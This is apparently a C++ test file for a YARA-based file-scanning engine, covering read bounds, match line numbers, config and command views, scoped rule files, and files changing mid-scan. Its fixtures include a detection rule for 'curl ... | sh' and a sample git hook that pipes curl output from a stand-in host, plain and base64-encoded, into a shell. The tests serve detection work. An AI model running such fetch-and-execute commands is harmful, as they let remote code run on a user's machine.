// The engine on its own: how much of a file the rules see, the lines a match is on, scopes, and files
// that vanish, block or change while scanned. The pack's cases check the external variables, and its
// audit (a worker per core) evaluators on many threads.

#include "TestSupport.h"
#include "rules/ExternalVariables.h"
#include "rules/FileSnapshot.h"
#include "rules/PathScope.h"
#include "rules/RuleCompiler.h"
#include "rules/YaraEvaluator.h"
#include "rules/YaraRuntime.h"

#include <algorithm>
#include <atomic>
#include <cstdint>
#include <gtest/gtest.h>
#include <set>
#include <sstream>
#include <sys/stat.h>
#include <thread>

namespace fs = std::filesystem;
using namespace tw;
using tw::test::TempDir;
using tw::test::writeFile;

namespace {

std::set<std::string> names(const std::vector<RuleMatch>& matches)
{
    std::set<std::string> out;
    for (const auto& m : matches)
        out.insert(m.rule);
    return out;
}

class RulesEngine : public ::testing::Test
{
protected:
    void SetUp() override { ASSERT_TRUE(yara::ensureInitialized()); }

    // Compiles `text` (one rule file) into an engine that reads at most `bound` bytes per file.
    std::unique_ptr<Evaluator> evaluatorFor(const std::string& text, std::size_t bound = kContentBound)
    {
        const fs::path file = m_rules / ("r" + std::to_string(m_count++) + ".yar");
        writeFile(file, text);
        std::ostringstream diag;
        CompileOutcome outcome = compileRuleFiles({file}, diag);
        EXPECT_TRUE(outcome.allAccepted()) << diag.str();
        m_engine = std::make_unique<YaraRuleEngine>(outcome.sets, bound);
        return m_engine->makeEvaluator();
    }

    std::set<std::string> namesIn(Evaluator& evaluator, const std::string& file)
    {
        return names(evaluator.evaluate({(m_tree / file).string(), {}}));
    }

    TempDir m_rules;
    TempDir m_tree;
    std::unique_ptr<YaraRuleEngine> m_engine;
    int m_count = 0;
};

// Scripts are read whole up to the bound (the pack's cases grown past the first MiB check that through
// twwatch); assets and compiled executables only over their head.
TEST_F(RulesEngine, ContentRulesSeeOnlyTheBoundedPart)
{
    const std::size_t bound = 4096;
    auto evaluator =
        evaluatorFor(R"(rule early { meta: severity = "warning" strings: $a = "EARLY_MARK" condition: $a }
rule late { meta: severity = "warning" strings: $a = "LATE_MARK" condition: $a }
rule cut { meta: severity = "warning" condition: is_truncated }
rule big { meta: severity = "warning" condition: file_size == 10000 and filesize == 4096 }
rule exact { meta: severity = "warning" condition: file_size == 4096 and not is_truncated }
)",
                     bound);
    std::string content(10000, 'x');
    content.replace(0, 10, "EARLY_MARK");
    content.replace(8000, 9, "LATE_MARK");
    writeFile(m_tree / "large", content);
    EXPECT_EQ(namesIn(*evaluator, "large"), (std::set<std::string>{"early", "cut", "big"}));
    writeFile(m_tree / "exact", std::string(bound, 'y'));
    EXPECT_EQ(namesIn(*evaluator, "exact"), std::set<std::string>{"exact"});

    evaluator.reset(); // before its engine goes
    evaluator = evaluatorFor("rule cut { meta: severity = \"warning\" condition: is_truncated }\n");
    std::string asset(3 * kHeadBound, 'x');
    writeFile(m_tree / "image.png", asset);
    writeFile(m_tree / "esbuild", asset.replace(0, 4, "\177ELF"));
    for (const char* name : {"image.png", "esbuild"})
        EXPECT_EQ(namesIn(*evaluator, name), std::set<std::string>{"cut"}) << name;
}

// The line each match is on, in every window and view (the text view's, end to end, in the loading
// test); a rule matching in several views is one match.
TEST_F(RulesEngine, MatchesCarryTheRuleDescriptionAndTheirLines)
{
    auto evaluator = evaluatorFor(
        R"(rule described { meta: severity = "high" description = "says \"why\"" strings: $a = "MARK" condition: $a }
rule counted { meta: severity = "warning" strings: $a = "MARK" condition: #a > 16 }
rule in_config { meta: severity = "high" strings: $a = "a.b = MARK" condition: $a and view == "config" }
rule by_name { meta: severity = "warning" condition: filename == "named.txt" }
rule number_in_config { meta: severity = "high" strings: $a = "a.n = 7" condition: $a and view == "config" }
rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: #a > 0 and view == "commands" }
private rule payload { strings: $a = /curl [^\n]*\| ?sh/ condition: $a }
rule via_private { meta: severity = "high" condition: payload and view == "commands" }
)");
    std::string lines100;
    for (int i = 0; i < 30000; ++i)
        lines100 += std::string(99, 'x') + '\n'; // line i + 1 starts at i * 100
    const auto withMark = [&](std::size_t at) { return std::string(lines100).replace(at, 4, "MARK"); };
    const auto lineAt = [](std::size_t at) { return static_cast<std::uint32_t>(at / 100 + 1); };
    std::string many;
    for (int i = 0; i < 40; ++i)
        many += "MARK\n";
    const std::string hook =
        "#!/bin/sh\ncurl http://x.example/MARK | sh\nset -e\ncurl -s \\\n  http://x.example/MARK "
        "\\\n  | sh\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n";
    struct Row
    {
        const char* file;
        std::string content;
        const char* rule;
        std::vector<std::uint32_t> lines; // empty: no lines
    };
    const std::size_t across = kHeadBound - 2, overlap = kHeadBound - kWindowOverlap / 2;
    const Row rows[] = {
        {"late.js", withMark(20000 * 100 + 3), "described", {20001}},
        {"across.js", withMark(across), "described", {lineAt(across)}},
        {"overlap.js", withMark(overlap), "described", {lineAt(overlap)}},
        // Only strings the condition counts are followed past their first match (`via_private` below).
        {"many.txt", many, "counted", {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}},
        // Derived views: the line each leaf or command came from.
        {"c.json", "{\n \"x\": [],\n \"a\": {\n  \"b\": \"MA\\u0052K\"\n }\n}\n", "in_config", {4}},
        // The reader looks past a number, here at the line end.
        {"c.json", "{\n \"a\": {\n  \"n\": 7\n }\n}\n", "number_in_config", {3}},
        // The format is known by the extension, whatever its case.
        {"c.YAML", "x: 1\na:\n  b: \"MA\\x52K\"\n", "in_config", {3}},
        {"c.toml", "x = 1\n[a]\nb = \"MA\\u0052K\"\n", "in_config", {3}},
        {"c.ini", "; c\n[a]\nb = MARK\n", "in_config", {3}},
        // A command's first line, for a continued one too; a decoded payload is listed under its command.
        {".git/hooks/post-merge", hook, "in_commands", {2, 4, 7}},
        {".git/hooks/post-merge", hook, "via_private", {2}},
        // A literal block keeps the file's lines; a folded one is one line, its first.
        {".github/workflows/ci.yml",
         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n\n          curl MARK\n"
         "      - run: >\n          npm ci\n          curl MARK\n",
         "in_commands",
         {8, 10}},
        {".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./MARK.sh\n", "in_commands", {3}},
        {"named.txt", "x", "by_name", {}},
    };
    for (const auto& row : rows) {
        SCOPED_TRACE(std::string(row.rule) + " on " + row.file);
        fs::create_directories((m_tree / row.file).parent_path());
        writeFile(m_tree / row.file, row.content);
        const auto matches = evaluator->evaluate({(m_tree / row.file).string(), {"modified"}});
        EXPECT_EQ(names(matches).size(), matches.size()) << "a rule reported twice";
        const auto match = std::find_if(matches.begin(), matches.end(),
                                        [&](const RuleMatch& m) { return m.rule == row.rule; });
        ASSERT_NE(match, matches.end());
        EXPECT_EQ(match->lines, row.lines);
        EXPECT_EQ(match->description, std::string(row.rule) == "described" ? "says \"why\"" : "");
    }
}

TEST_F(RulesEngine, VanishedBlockingAndNonRegularFilesMatchNothingLinksOnlyByPath)
{
    auto evaluator = evaluatorFor("rule any_file { meta: severity = \"warning\" condition: true }\n");
    ASSERT_EQ(::mkfifo((m_tree / "fifo").c_str(), 0644), 0);
    fs::create_directories(m_tree / "dir");
    fs::create_symlink(m_tree / "missing", m_tree / "dangling");
    for (const fs::path& p : {m_tree / "gone", m_tree / "fifo", m_tree / "dir", fs::path("/dev/zero")})
        EXPECT_TRUE(evaluator->evaluate({p.string(), {"deleted"}}).empty()) << p;
    // A link is judged by its own path, whatever it points at (nothing, here); an empty file is a file.
    writeFile(m_tree / "real", "");
    for (const char* name : {"dangling", "real"})
        EXPECT_EQ(namesIn(*evaluator, name), std::set<std::string>{"any_file"}) << name;
}

// A file truncated and rewritten while it is being scanned: never a crash, and every answer is one of
// the two the file's contents allow.
TEST_F(RulesEngine, FileChangingDuringScansIsHandled)
{
    auto evaluator = evaluatorFor("rule marked { meta: severity = \"high\" strings: $a = \"PAYLOAD\" "
                                  "condition: $a }\n");
    const fs::path file = m_tree / "churn.js";
    std::string content(256 * 1024, 'a');
    content.replace(200 * 1024, 7, "PAYLOAD");
    writeFile(file, content);
    std::atomic<bool> stop{false};
    std::thread writer([&] {
        while (!stop) {
            ::truncate(file.c_str(), 0);
            writeFile(file, content);
            ::truncate(file.c_str(), 1000);
        }
    });
    for (int i = 0; i < 300; ++i)
        ASSERT_LE(evaluator->evaluate({file.string(), {"modified"}}).size(), 1u);
    stop = true;
    writer.join();
    EXPECT_TRUE(namesIn(*evaluator, "churn.js").empty()) << "left truncated before the mark";
}

} // namespace

// A scoped file's rules speak only inside its scope (names whole, a scope line a comment line of its
// own, a scope of exclusions alone everywhere else), in the same order whether each scoped file has a
// set of its own or all files share one; two scoped files may share a rule name, and refused rules stay
// silent. The pack's scoped files and cases cover the patterns themselves.
TEST_F(RulesEngine, ScopedRuleFilesSeeOnlyTheirPaths)
{
    const fs::path scoped = m_rules / "scoped.yar";
    const fs::path locks = m_rules / "locks.yar";
    const fs::path everywhere = m_rules / "everywhere.yar";
    writeFile(scoped, "// twwatch-scope: package.json\n"
                      "rule in_scope { meta: severity = \"high\" condition: true } // twwatch-scope: *.lock\n"
                      "rule in_scope_refused { condition: true }\n"
                      "rule same_name { meta: severity = \"high\" condition: true }\n");
    writeFile(locks, "// twwatch-scope: *.lock\n"
                     "rule same_name { meta: severity = \"warning\" condition: true }\n");
    writeFile(everywhere,
              "// twwatch-scope: !*.bak\n"
              "rule anywhere { meta: severity = \"warning\" strings: $a = \"MARK\" condition: $a }\n");
    for (const auto& name : {"package.json", "yarn.lock", "other.json", "package.json.bak"})
        writeFile(m_tree / name, "MARK");
    const auto found = [&](Evaluator& e, const char* name) {
        std::vector<std::string> out;
        for (const auto& m : e.evaluate({(m_tree / name).string(), {}}))
            out.push_back(m.rule + " " + m.severity);
        return out;
    };
    for (const auto grouping : {RuleGrouping::PerScope, RuleGrouping::OneSet}) {
        SCOPED_TRACE(static_cast<int>(grouping));
        std::ostringstream diag;
        CompileOutcome outcome = compileRuleFiles({scoped, locks, everywhere}, diag, grouping);
        EXPECT_EQ(outcome.sets.size(), grouping == RuleGrouping::PerScope ? 3u : 1u);
        YaraRuleEngine engine(outcome.sets, kContentBound);
        auto evaluator = engine.makeEvaluator();
        EXPECT_EQ(found(*evaluator, "package.json"),
                  (std::vector<std::string>{"in_scope high", "same_name high", "anywhere warning"}));
        EXPECT_EQ(found(*evaluator, "yarn.lock"),
                  (std::vector<std::string>{"same_name warning", "anywhere warning"}));
        EXPECT_EQ(found(*evaluator, "other.json"), std::vector<std::string>{"anywhere warning"});
        EXPECT_TRUE(found(*evaluator, "package.json.bak").empty());
    }
}
